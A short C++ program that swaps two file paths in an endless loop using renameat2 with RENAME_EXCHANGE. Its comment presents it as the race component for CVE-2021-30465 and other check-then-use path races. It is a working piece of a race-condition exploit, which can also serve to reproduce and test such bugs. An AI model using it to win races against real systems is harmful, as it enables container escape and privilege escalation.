// Exchanges two paths as fast as the kernel can, until killed: the racer of CVE-2021-30465 and of
// every other check-then-use on a path.
//
//   swap_paths A B
#include <fcntl.h>
#include <stdio.h>
#include <unistd.h>

#include <cstdio>

int main(int argc, char** argv) {
  if (argc != 3) return 2;
  if (renameat2(AT_FDCWD, argv[1], AT_FDCWD, argv[2], RENAME_EXCHANGE) != 0) {
    std::perror("renameat2");
    return 1;
  }
  if (write(STDOUT_FILENO, "swapping\n", 9) != 9) return 1;
  for (;;) renameat2(AT_FDCWD, argv[1], AT_FDCWD, argv[2], RENAME_EXCHANGE);
}
